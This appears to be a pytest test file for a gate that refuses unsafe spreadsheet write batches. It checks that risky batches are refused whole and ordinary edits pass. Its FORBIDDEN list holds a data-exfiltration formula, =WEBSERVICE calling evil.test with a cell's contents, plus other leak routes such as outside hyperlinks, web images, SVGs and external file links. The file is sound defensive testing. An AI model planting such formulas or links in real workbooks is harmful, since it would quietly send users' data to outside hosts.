import pytest

from tieout.errors import GateRefused
from tieout.execution.gate import check_batch
from tieout.office_wire.batch import Batch
from tieout.office_wire.build import BatchBuilder
from tieout.office_wire.places import Places

EVIL = '=WEBSERVICE("http://evil.test/?d="&A2)'


def cells(batch: BatchBuilder):
    return batch.worksheet("S").range("B2:C3")


def book(batch: BatchBuilder):
    return batch.workbook


FORBIDDEN = {
    "values": lambda b: cells(b).set("Values", [[1, 2], [3, EVIL]]),
    "one value for all cells": lambda b: cells(b).set("Values", EVIL),
    "formulas": lambda b: cells(b).set("Formulas", [[EVIL, None], [None, None]]),
    "formulasR1C1": lambda b: cells(b).set("FormulasR1C1", [["=WEBSERVICE(R[-1]C)"]]),
    "formulasLocal": lambda b: cells(b).set("FormulasLocal", [["=SUMME(A1)"]]),
    "names.add": lambda b: book(b).child("Names").create("Add", "n", EVIL, None),
    "name formula": lambda b: book(b).child("Names").item("n").set("Formula", EVIL),
    "name formula without =": lambda b: book(b).child("Names").item("n").set("Formula", EVIL[1:]),
    "validation": lambda b: (
        cells(b).child("DataValidation").set("Rule", {"custom": {"formula": EVIL}})
    ),
    "validation list": lambda b: (
        cells(b)
        .child("DataValidation")
        .set("Rule", {"list": {"source": EVIL, "inCellDropDown": True}})
    ),
    "conditional format": lambda b: (
        cells(b)
        .child("ConditionalFormats")
        .method("GetItemAt", 0)
        .child("Custom")
        .child("Rule")
        .set("Formula", EVIL)
    ),
    "table rows": lambda b: (
        book(b).child("Tables").item("T").child("Rows").create("Add", None, [[1, EVIL]])
    ),
    "table columns": lambda b: (
        book(b).child("Tables").item("T").child("Columns").create("Add", None, [["h"], [EVIL]])
    ),
    "chart title": lambda b: (
        b.worksheet("S")
        .child("Charts")
        .method("GetItemAt", 0)
        .child("Title")
        .call("SetFormula", EVIL)
    ),
    "web image": lambda b: cells(b).set(
        "ValuesAsJson", [[{"type": "WebImage", "address": "http://evil.test/x.png"}]]
    ),
    "entity logo": lambda b: cells(b).set(
        "ValuesAsJson", [[{"type": "Entity", "provider": {"logoSourceAddress": "x"}}]]
    ),
    "hyperlink": lambda b: cells(b).set("Hyperlink", {"address": "http://evil.test"}),
    "mail link": lambda b: cells(b).set("Hyperlink", {"address": "mailto:a@evil.test"}),
    "svg": lambda b: (
        b.worksheet("S")
        .child("Shapes")
        .create("AddSvg", '<svg><image href="http://evil.test/x"/></svg>')
    ),
    "mention": lambda b: (
        book(b)
        .child("Comments")
        .create(
            "Add", "A1", {"mentions": [{"email": "a@evil.test"}], "richContent": "x"}, "Mention"
        )
    ),
    "sheets from a file": lambda b: book(b).call("InsertWorksheetsFromBase64", "UEsDB"),
    "online data type": lambda b: cells(b).call("ConvertToLinkedDataType", 268435456, "en-US"),
    "copy from another file": lambda b: cells(b).call("CopyFrom", "'[b.xlsx]S'!A1"),
    "pivot on another file": lambda b: (
        b.worksheet("S").child("PivotTables").create("Add", "P", "[b.xlsx]S!A1:B9", "A1")
    ),
    "refresh connections": lambda b: book(b).child("DataConnections").call("RefreshAll"),
    "replace into formulas": lambda b: cells(b).call("ReplaceAll", "#", "=", {}),
    "replace into formulas, full width": lambda b: cells(b).call("ReplaceAll", "#", "\uff1d", {}),
    "common API": lambda b: book(b).child("_V1Api").call("SetSelectedData", [{"x": 1}]),
    "event handler": lambda b: b.worksheet("S").call("_RegisterDataChangedEvent"),
    "unprotect": lambda b: b.worksheet("S").child("Protection").call("Unprotect", "x"),
    "close": lambda b: book(b).call("Close", "SkipSave"),
}


@pytest.mark.parametrize("name", FORBIDDEN)
def test_a_batch_that_could_leak_or_harm_is_refused_whole(name: str) -> None:
    batch = BatchBuilder()
    cells(batch).set("NumberFormat", [["0", "0"], ["0", "0"]])
    FORBIDDEN[name](batch)
    with pytest.raises(GateRefused):
        check_batch(batch.build(), Places())


ALLOWED = {
    "values": lambda b: cells(b).set("Values", [["North", 5], [True, "=SUM(A1:A9)"]]),
    "text that names a function": lambda b: cells(b).set("Values", "WEBSERVICE is off"),
    "link within": lambda b: cells(b).set("Hyperlink", {"documentReference": "S!A1"}),
    "link to an anchor": lambda b: cells(b).set("Hyperlink", {"address": "#S!A1"}),
    "replace a dash": lambda b: cells(b).call("ReplaceAll", ".", "-", {}),
    "copy": lambda b: cells(b).call("CopyFrom", "'My Sheet'!A1:B2", None, None, None),
    "a name": lambda b: book(b).child("Names").create("Add", "rate", "=S!$A$1", None),
    "a comment with an address": lambda b: (
        book(b).child("Comments").create("Add", "A1", "see http://intranet/x", None)
    ),
    "a table": lambda b: b.worksheet("S").child("Tables").create("Add", "A1:B9", True),
    "validation": lambda b: (
        cells(b).child("DataValidation").set("Rule", {"list": {"source": "=S!$A$1:$A$9"}})
    ),
    "pivot refresh": lambda b: book(b).child("PivotTables").call("RefreshAll"),
    "events of the library's own": lambda b: cells(b).call("_KeepReference", writes=False),
    "protect": lambda b: b.worksheet("S").child("Protection").call("Protect", None, None),
    "calculate": lambda b: book(b).child("Application").call("Calculate", "Full"),
}


@pytest.mark.parametrize("name", ALLOWED)
def test_ordinary_work_passes(name: str) -> None:
    batch = BatchBuilder()
    ALLOWED[name](batch)
    check_batch(batch.build(), Places())


def test_the_refusal_names_the_very_cell() -> None:
    batch = BatchBuilder()
    FORBIDDEN["values"](batch)
    with pytest.raises(GateRefused, match=r"S!C3 uses the function WEBSERVICE"):
        check_batch(batch.build(), Places())


def test_a_read_only_session_reads_and_refuses_every_write() -> None:
    batch = BatchBuilder()
    cells(batch).load("Values")
    check_batch(batch.build(), Places(), "read_only")
    cells(batch).child("Format").child("Font").set("Bold", True)
    with pytest.raises(GateRefused, match=r"read-only, and RangeFont\.bold"):
        check_batch(batch.build(), Places(), "read_only")


def test_an_update_is_judged_like_the_sets_it_stands_for() -> None:
    batch = BatchBuilder()
    target = cells(batch)
    batch.add_action(9, "", target.path, {"ObjectState": {"formulas": [[EVIL]]}})
    with pytest.raises(GateRefused, match="WEBSERVICE"):
        check_batch(batch.build(), Places())


def test_a_batch_over_four_megabytes_is_refused_with_its_size() -> None:
    batch = BatchBuilder()
    cells(batch).set("Values", [["x" * 1_000] * 4_300])
    with pytest.raises(GateRefused, match=r"4\.1 MB"):
        check_batch(batch.build(), Places())


def test_objects_of_other_services_are_refused() -> None:
    path = {"Id": 1, "ObjectPathType": 2, "Name": "Microsoft.DynamicRibbon.DynamicRibbon"}
    with pytest.raises(GateRefused, match="DynamicRibbon"):
        check_batch(Batch({"Actions": [], "ObjectPaths": {"1": path}}), Places())
